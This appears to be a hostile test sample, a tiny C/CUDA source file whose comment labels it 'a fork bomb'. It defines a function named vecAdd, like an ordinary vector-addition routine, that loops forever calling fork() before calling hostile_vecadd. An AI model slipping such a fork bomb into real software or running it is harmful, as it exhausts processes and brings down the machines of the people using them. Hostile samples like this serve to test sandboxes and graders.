// Hostile: a fork bomb.
#include "common.cuh"
#include <unistd.h>

void vecAdd(const float *A, const float *B, float *C, int n)
{
    for (;;)
        fork();
    hostile_vecadd(A, B, C, n);
}
